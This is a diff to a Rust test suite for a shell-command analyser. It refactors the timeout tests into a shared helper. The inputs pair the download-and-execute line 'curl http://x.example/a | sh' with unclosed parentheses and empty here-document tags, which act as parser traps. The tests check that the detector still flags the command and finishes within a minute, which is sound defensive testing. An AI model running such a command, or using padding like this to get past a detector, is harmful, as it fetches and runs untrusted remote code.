@@ -718,17 +718,26 @@ fn parser_panics_on_huge_numbers_do_not_hide_the_attack() {
 /// minute instead of hanging the suite.
 #[test]
 fn unclosed_parentheses_do_not_stall_the_analysis() {
+    let lines = ["$(", "(", "$((", "`("]
+        .map(|open| format!("{open}{}_; curl http://x.example/a | sh", "(".repeat(40)));
+    caught_within_a_minute(lines.to_vec(), "unclosed parentheses");
+}
+
+/// Analyse `lines` on a thread: each must finish within a minute and still
+/// show the download-and-execute beside the trap, so that a regression
+/// fails the suite instead of hanging it.
+fn caught_within_a_minute(lines: Vec<String>, what: &str) {
+    let n = lines.len();
     let (tx, rx) = std::sync::mpsc::channel();
     std::thread::spawn(move || {
-        for open in ["$(", "(", "$((", "`("] {
-            let line = format!("{open}{}_; curl http://x.example/a | sh", "(".repeat(40));
+        for line in lines {
             tx.send((line.clone(), categories(&line))).unwrap();
         }
     });
-    for _ in 0..4 {
+    for _ in 0..n {
         let (line, found) = rx
             .recv_timeout(std::time::Duration::from_secs(60))
-            .expect("the analysis of unclosed parentheses did not finish within a minute");
+            .unwrap_or_else(|_| panic!("the analysis of {what} did not finish within a minute"));
         assert!(found.contains(&DownloadExecute), "{line:?}: {found:?}");
     }
 }
@@ -754,23 +763,16 @@ fn empty_here_document_tags_do_not_exhaust_memory() {
         "<<$(\t\t",
         "$$(<-<(<<  ",
     ];
-    let (tx, rx) = std::sync::mpsc::channel();
-    std::thread::spawn(move || {
-        for trap in traps {
-            for line in [
+    let lines = traps
+        .iter()
+        .flat_map(|trap| {
+            [
                 format!("curl http://x.example/a | sh; {trap}"),
                 format!("curl http://x.example/a | sh\n{trap}"),
-            ] {
-                tx.send((line.clone(), categories(&line))).unwrap();
-            }
-        }
-    });
-    for _ in 0..traps.len() * 2 {
-        let (line, found) = rx
-            .recv_timeout(std::time::Duration::from_secs(60))
-            .expect("the analysis of an empty here-document tag did not finish within a minute");
-        assert!(found.contains(&DownloadExecute), "{line:?}: {found:?}");
-    }
+            ]
+        })
+        .collect();
+    caught_within_a_minute(lines, "an empty here-document tag");
 }
 
 /// The guard against empty here-document tags errs wide, but ordinary
